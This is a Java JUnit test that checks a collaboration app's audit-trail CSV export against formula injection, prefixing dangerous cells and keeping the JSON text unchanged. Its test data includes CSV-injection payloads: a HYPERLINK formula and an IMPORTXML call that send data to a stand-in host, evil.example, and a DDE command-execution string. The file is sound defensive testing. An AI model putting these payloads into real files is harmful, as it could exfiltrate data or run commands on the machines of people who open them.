package org.concordia.infra.app;

import com.fasterxml.jackson.databind.ObjectMapper;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.awaitility.Awaitility;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import org.awaitility.Awaitility;

import java.io.StringReader;
import java.time.Duration;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The audit trail's CSV is safe to open in a spreadsheet (OWASP CSV injection): no cell starts with a character
 * that makes a spreadsheet run it as a formula, yet the text is all there, and the JSON form keeps it unchanged.
 */
class AuditTrailCsvHttpTest {

    static final List<String> FORMULAS = List.of(
            "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open the protocol\")",
            "+1+1",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1,1)",
            "\t=1+1",
            "\r=1+1");

    @TempDir
    static Path dataDir;
    static RunningApp app;
    static RunningApp.Call cora, wendy;
    static String cid;

    @BeforeAll
    static void start() {
        app = new RunningApp(dataDir);
        cora = app.user("cora");
        wendy = app.user("wendy");
        cid = cora.post("/api/v1/collaborations", Map.of("key", "CSV", "name", "=Formula trial",
                                                          "kind", "CLINICAL_TRIAL")).json().get("id").asText();
        cora.get(c("?minVersion=1"));
        ok(cora.post(c("/parties"), Map.of("partyId", "site", "name", "@Site", "role", "SITE")));
        ok(cora.post(c("/members"), Map.of("username", "wendy", "partyId", "site", "roles",
                                           List.of("CONTRIBUTOR"))));
        long version = ok(cora.put(c("/governance"), Map.of("tiers", List.of(Map.of("name", "WG",
                "members", List.of("wendy"), "acknowledgeWithin", "P2D", "resolveWithin", "P14D", "quorum", 1)))))
                .json().get("version").asLong();
        cora.get(c("?minVersion=" + version));
    }

    @AfterAll
    static void stop() {
        app.close();
    }

    static String c(String path) {
        return "/api/v1/collaborations/" + cid + path;
    }

    static RunningApp.Response ok(RunningApp.Response response) {
        assertThat(response.status()).as(response.body()).isBetween(200, 201);
        return response;
    }

    @Test
    void noCellOfTheCsvRunsAsAFormulaAndNoTextIsLost() throws Exception {
        String iid = ok(wendy.post(c("/issues"), Map.of("type", "ISSUE", "title", "=1+1", "description", "-1",
                "category", "BUDGET", "severity", "LOW", "involvedParties", List.of("site")))).json().get("id").asText();
        String issue = c("/issues/" + iid);
        ok(wendy.post(issue + "/comments", Map.of("text", "=IMPORTXML(\"https://evil.example\",\"//a\")")));
        List<String> reasons = new ArrayList<>(FORMULAS);
        reasons.add("a,=1+1;=2+2\n=3+3");   // separators and a line break inside one cell
        reasons.add("plain words");        // left alone
        String severity = "LOW";
        for (String reason : reasons) {
            severity = severity.equals("LOW") ? "HIGH" : "LOW";
            ok(wendy.post(issue + "/severity", Map.of("severity", severity, "reason", reason)));
        }
        Awaitility.await().atMost(Duration.ofSeconds(20)).until(() -> CSVFormat.RFC4180.parse(new StringReader(
                wendy.get(c("/audit-trail?issue=" + iid), "text/csv").body())).getRecords().stream()
                .filter(r -> r.get(2).equals("SeverityChanged")).count() == reasons.size());
        RunningApp.Response download = wendy.get(c("/audit-trail?issue=" + iid), "text/csv");
        assertThat(download.status()).isEqualTo(200);
        assertThat(download.header("Content-Type")).startsWith("text/csv");

        List<CSVRecord> records = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(download.body())).getRecords();
        assertThat(records).hasSizeGreaterThanOrEqualTo(reasons.size() + 2);
        for (CSVRecord record : records) {
            for (String cell : record) {
                assertThat(cell).as("cell of " + record.get("type")).doesNotStartWith("=").doesNotStartWith("+")
                        .doesNotStartWith("-").doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r")
                        .doesNotStartWith("\0");
            }
        }
        List<String> csvReasons = records.stream().filter(r -> r.get("type").equals("SeverityChanged"))
                                         .map(r -> r.get("reason")).toList();
        List<String> expected = new ArrayList<>(FORMULAS.stream().map(f -> "'" + f).toList());
        expected.add("a,=1+1;=2+2\n=3+3");
        expected.add("plain words");
        assertThat(csvReasons).containsExactlyElementsOf(expected);
        // every cell is quoted, so no separator a spreadsheet might guess (, ; tab) starts a new one
        assertThat(download.body().lines().findFirst().orElseThrow()).startsWith("\"position\",\"eventId\",\"type\"");

        // the data column is JSON with the text exactly as written
        String commentData = records.stream().filter(r -> r.get("type").equals("CommentAdded")).findFirst()
                                    .orElseThrow().get("data");
        assertThat(new ObjectMapper().readTree(commentData).get("text").asText())
                .isEqualTo("=IMPORTXML(\"https://evil.example\",\"//a\")");
        // and the JSON trail is unchanged
        assertThat(wendy.get(c("/audit-trail?issue=" + iid + "&limit=100")).json().findValuesAsText("reason"))
                .containsAll(reasons);
    }
}
